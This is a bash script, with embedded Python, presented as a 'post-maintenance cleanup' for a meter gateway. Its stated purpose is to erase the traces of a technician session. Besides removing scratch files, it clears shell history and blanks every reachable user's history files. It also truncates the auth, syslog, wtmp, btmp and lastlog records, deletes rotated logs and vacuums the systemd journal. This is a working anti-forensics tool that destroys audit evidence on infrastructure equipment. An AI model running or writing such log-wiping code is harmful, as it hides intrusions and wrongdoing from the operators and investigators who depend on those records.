#!/usr/bin/env bash
# "Post-maintenance cleanup" run after a technician session on a meter
# gateway. Besides removing temp files, it erases the traces of the session:
# shell history for every user it can reach, the auth and system logs, and
# the systemd journal. The list of files to blank is computed in Python and
# handed back to the shell through a pipe.
set -uo pipefail

WORK_DIR="./maint_work"
KEEP_JOURNAL="1s"
DRY_RUN=0
LOG_TARGETS=(/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages
             /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/meter-gateway)

say() { echo "[cleanup] $*" >&2; }

while getopts ":w:n" opt; do
    case "$opt" in
        w) WORK_DIR="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        *) echo "usage: $0 [-w workdir] [-n]" >&2; exit 2 ;;
    esac
done

run() {
    if (( DRY_RUN )); then
        say "would run: $*"
    else
        "$@"
    fi
}

# 1. ordinary part: remove the technician's scratch files
if [[ -d "$WORK_DIR" ]]; then
    run rm -rf "$WORK_DIR"
    say "removed $WORK_DIR"
fi

# 2. stop this shell from recording, and clear what it has
unset HISTFILE
history -c 2>/dev/null || true

# 3. find every history file under /root and /home
mapfile -t hist_files < <(HOME_ROOTS="/root:/home" python3 - <<'PY'
import glob, os
names = (".bash_history", ".zsh_history", ".python_history", ".lesshst", ".viminfo", ".mysql_history")
for root in os.environ["HOME_ROOTS"].split(":"):
    homes = [root] if root == "/root" else glob.glob(os.path.join(root, "*"))
    for home in homes:
        for n in names:
            p = os.path.join(home, n)
            if os.path.isfile(p):
                print(p)
PY
)
for f in "${hist_files[@]}"; do
    run sudo truncate -s 0 "$f" && say "blanked $f"
done

# 4. blank the system logs (files and rotated copies)
for target in "${LOG_TARGETS[@]}"; do
    if [[ -d "$target" ]]; then
        while IFS= read -r -d '' f; do
            run sudo truncate -s 0 "$f"
        done < <(sudo find "$target" -type f -print0 2>/dev/null)
        say "blanked logs in $target"
    elif [[ -e "$target" ]]; then
        run sudo truncate -s 0 "$target"
        for old in "$target".[0-9]* "$target"-*; do
            [[ -e "$old" ]] && run sudo rm -f "$old"
        done
        say "blanked $target"
    fi
done

# 5. drop the journal
if command -v journalctl >/dev/null; then
    run sudo journalctl --rotate
    run sudo journalctl --vacuum-time="$KEEP_JOURNAL"
    say "journal vacuumed"
fi

say "cleanup finished"
